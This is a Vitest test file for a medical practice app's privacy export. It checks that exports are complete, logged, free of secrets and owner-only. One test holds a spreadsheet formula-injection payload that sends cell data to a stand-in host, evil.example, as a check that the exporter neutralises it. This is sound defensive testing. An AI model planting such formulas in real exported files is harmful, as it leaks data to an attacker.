import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { verifyAccess } from '@/lib/identity/access-log/verify-access';
import { insertCover } from '@/lib/identity/cover/cover-store';
import { database, transaction } from '@/lib/platform/database/database';
import { exportTo } from '@/lib/privacy/export';
import { exportTable } from '@/lib/privacy/export-table';
import { aComment, decideNow, leaveContact } from '@/tests/support/builders';
import { everything, newFolder, rowsIn, withExports } from '@/tests/support/content/exported-files';
import { whileFailing, withDatabase } from '@/tests/support/database';
import { readDeskItem } from '@/tests/support/desk/desk-deeds';
import { after, noon } from '@/tests/support/moments';
import { ada, aPractice, aViewer, ben } from '@/tests/support/viewers';

withDatabase();

const by = { user: 'root', now: noon };

withExports();

describe('an export of the practice', () => {
  it('holds every message with its words, answers, decisions and notes, as JSON and as CSV', async () => {
    await aPractice();
    const answered = await aComment({ status: 'published', answer: 'In general this passes by itself.' });
    const waiting = await aComment();
    await decideNow(aViewer('physician', ada), waiting.id, 'return', noon, { note: 'Please say a little more.' });
    const folder = newFolder();
    const written = await exportTo(folder, null, by);
    for (const { name, rows } of written) expect(rowsIn(folder, name), name).toHaveLength(rows);
    expect(
      rowsIn(folder, 'revisions')
        .map(({ body }) => body)
        .sort(),
    ).toEqual([answered.body, waiting.body].sort());
    expect(rowsIn(folder, 'answer-revisions')).toMatchObject([{ body: 'In general this passes by itself.' }]);
    expect(rowsIn(folder, 'notes')).toMatchObject([{ text: 'Please say a little more.', commentId: waiting.id }]);
    expect(rowsIn(folder, 'decisions')).toHaveLength(await database().decision.count());
    expect(rowsIn(folder, 'accounts')).toHaveLength(5);
    expect(readFileSync(path.join(folder, 'revisions.csv'), 'utf8')).toContain(`"${waiting.body}"`);
  });

  it('holds who opened which message, and who covered for whom, also in the past', async () => {
    await aPractice();
    const comment = await aComment();
    const reader = aViewer('staff');
    await readDeskItem(reader, comment.id, noon);
    const cover = { physician: ada, coveredBy: ben, createdBy: aViewer('admin').accountId };
    await transaction((tx) => insertCover(tx, { ...cover, from: after(-7200), until: after(-3600) }, noon));
    const more = Array.from({ length: 1100 }, () => ({ action: 'sign-in', accountId: 'SOMEONE', at: noon }));
    await database().accessRecord.createMany({ data: more });
    const folder = newFolder();
    await exportTo(folder, null, by);
    expect(rowsIn(folder, 'access')).toHaveLength(1102);
    expect(rowsIn(folder, 'access')[0]).toMatchObject({
      action: 'read',
      accountId: reader.accountId,
      commentId: comment.id,
    });
    expect(rowsIn(folder, 'covers')).toMatchObject([{ ...cover, until: after(-3600).toISOString() }]);
  });

  it('reads more rows than fit one page, each once', async () => {
    const { id: commentId } = await aComment();
    const more = Array.from({ length: 1100 }, (_, place) => ({
      id: `revision-${String(place).padStart(4, '0')}`,
      commentId,
      number: place + 2,
      body: `Version ${place}`,
      findings: '[]',
      createdAt: noon,
    }));
    await database().commentRevision.createMany({ data: more });
    const folder = newFolder();
    await exportTo(folder, null, by);
    expect(new Set(rowsIn(folder, 'revisions').map(({ id }) => id)).size).toBe(1101);
    expect(rowsIn(folder, 'revisions')).toHaveLength(1101);
  });

  it('holds nothing that opens a message or finds its writer', async () => {
    const comment = await aComment();
    await leaveContact(comment.writer, 'someone@example.org');
    const folder = newFolder();
    await exportTo(folder, null, by);
    const text = everything(folder);
    const [receipt] = await database().receipt.findMany();
    const { submissionKey } = await database().comment.findUniqueOrThrow({ where: { id: comment.id } });
    for (const secret of [comment.code, receipt?.locator, receipt?.secretHash, receipt?.salt, submissionKey])
      expect(text).not.toContain(secret);
    expect(text).not.toContain('someone@example.org');
  });

  it('writes words that a spreadsheet would run as text', async () => {
    const formula = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';
    await aComment({ body: formula });
    const folder = newFolder();
    await exportTo(folder, null, by);
    expect(readFileSync(path.join(folder, 'revisions.csv'), 'utf8')).toContain(`"'${formula.replaceAll('"', '""')}"`);
    expect(rowsIn(folder, 'revisions')[0]?.['body']).toBe(formula);
  });

  it('is for its owner only, and never mixes with what is there', async () => {
    await aComment();
    const folder = newFolder();
    await exportTo(folder, null, by);
    expect(statSync(path.join(folder, 'revisions.json')).mode & 0o077).toBe(0);
    await expect(exportTo(folder, null, by)).rejects.toThrow('not empty');
    const other = newFolder();
    writeFileSync(path.join(other, 'letter.txt'), 'mine');
    await expect(exportTo(other, null, by)).rejects.toThrow('not empty');
    expect(readdirSync(other)).toEqual(['letter.txt']);
  });
});

describe('any export', () => {
  it('is in the log of access before anything is written, with who asked, what for and how many', async () => {
    await aComment();
    const folder = newFolder();
    await whileFailing('AccessRecord', 'INSERT', () =>
      expect(exportTo(folder, null, by)).rejects.toThrow('accessRecord.createMany'),
    );
    expect(readdirSync(folder)).toEqual([]);
    await exportTo(folder, null, by);
    expect(await database().accessRecord.findMany()).toMatchObject([
      { action: 'copy', accountId: 'server:root', detail: 'practice 1', commentId: null },
    ]);
    expect(await verifyAccess()).toMatchObject({ count: 1 });
  });

  it('of the practice holds every model of the schema, or says why not', async () => {
    const models = [...readFileSync('prisma/schema.prisma', 'utf8').matchAll(/^model (\w+) /gm)].map(
      ([, name]) => name,
    );
    expect(models.length).toBeGreaterThan(40);
    expect(Object.keys(exportTable).sort()).toEqual(models.sort());
    const written = (await exportTo(newFolder(), null, by)).map(({ name }) => name);
    const promised = Object.values(exportTable).flatMap((told) => ('sheet' in told ? [told.sheet] : []));
    expect(written.sort()).toEqual(promised.sort());
  });

  it('of the practice holds reports with their words, and nothing of the device that they came from', async () => {
    const { id } = await aComment({ status: 'published' });
    const report = {
      id: 'r',
      commentId: id,
      reason: 'unkind',
      words: 'It hurts.',
      deviceHash: 'mark',
      createdAt: noon,
    };
    await database().readerReport.create({ data: report });
    const folder = newFolder();
    await exportTo(folder, null, by);
    expect(rowsIn(folder, 'reports')).toMatchObject([{ commentId: id, words: 'It hurts.' }]);
    expect(everything(folder)).not.toContain('mark');
  });
});
